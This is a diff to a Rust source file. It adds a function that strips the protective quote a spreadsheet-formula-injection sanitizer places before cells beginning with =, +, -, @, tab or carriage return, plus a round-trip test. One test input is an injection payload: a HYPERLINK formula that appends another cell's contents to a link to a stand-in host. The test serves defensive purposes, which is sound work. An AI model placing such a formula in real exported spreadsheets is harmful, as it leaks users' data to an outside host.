@@ -14,9 +14,38 @@ pub fn spreadsheet_text(s: &str) -> String {
     }
 }
 
+/// The text a cell held before [`spreadsheet_text`] quoted it: a leading `'` before `=`, `+`,
+/// `-`, `@`, a tab or a carriage return goes; any other text is kept as it is (a `'` before
+/// anything else was the person's own).
+pub fn text_of_spreadsheet_cell(s: &str) -> &str {
+    match s.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(['=', '+', '-', '@', '\t', '\r']) => rest,
+        _ => s,
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn quoted_cells_read_back_as_they_were() {
+        for text in [
+            "=HYPERLINK(\"http://x\"&A2,\"click\")",
+            "+1",
+            "-1",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+            "'=already quoted by hand",
+            "'plain",
+            "plain",
+            "",
+        ] {
+            assert_eq!(text_of_spreadsheet_cell(&spreadsheet_text(text)), text);
+        }
+        assert_eq!(text_of_spreadsheet_cell("'plain"), "'plain");
+    }
 
     #[test]
     fn formula_looking_cells_become_text_and_others_are_kept() {
